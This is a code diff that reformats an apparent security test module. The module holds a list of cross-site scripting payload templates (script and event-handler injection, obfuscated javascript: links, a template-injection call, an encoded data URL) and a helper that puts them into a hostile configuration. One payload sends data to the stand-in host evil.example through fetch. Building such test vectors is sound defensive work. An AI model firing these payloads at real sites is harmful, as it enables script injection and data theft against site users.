@@ -33,7 +33,7 @@ _VECTORS = [
     "<a href=\"javascript:alert('{m}')\">click {m}</a>",
     "\"><script>alert('{m}')</script>",
     "'><img src=x onerror=prompt('{m}')>",
-    "\" onmouseover=\"alert('{m}')\" x=\"",
+    '" onmouseover="alert(\'{m}\')" x="',
     "' autofocus onfocus='confirm(\"{m}\")' x='",
     "</title><script>alert('{m}')</script>",
     "</style><script>alert('{m}')</script>",
@@ -54,16 +54,16 @@ _VECTORS = [
     "';alert('{m}');//",
     "\\\";alert('{m}');//",
     "{{{{constructor.constructor('alert(\"{m}\")')()}}}}",
-    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;('{m}')\">",
+    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(\'{m}\')">',
     "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
-    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text x=\"20\" y=\"20\">{m}</text></a></svg>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
+    '<svg><a xlink:href="javascript:alert(\'{m}\')"><text x="20" y="20">{m}</text></a></svg>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
     "<base href=\"javascript:alert('{m}')//\">",
     "<form action=\"javascript:alert('{m}')\"><input type=submit value={m}></form>",
     "<img src=x onerror=fetch('//evil.example/{m}')>",
     "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
     "<a href=\"jav&#x09;ascript:alert('{m}')\">tab {m}</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data {m}</a>",
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data {m}</a>',
     "\u202e<script>alert('{m}')</script>\u202d",
     "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
     "<img src=x onerror=print('{m}')>",
@@ -103,8 +103,7 @@ def _hostile_config(payloads: list[str]) -> dict[str, Any]:
             "offload_param": {"device": "none", "nvme_path": payloads[2]},
         },
     }
-    for p in payloads:
-        config[p] = p
+    config.update({p: p for p in payloads})
     return config
 
 
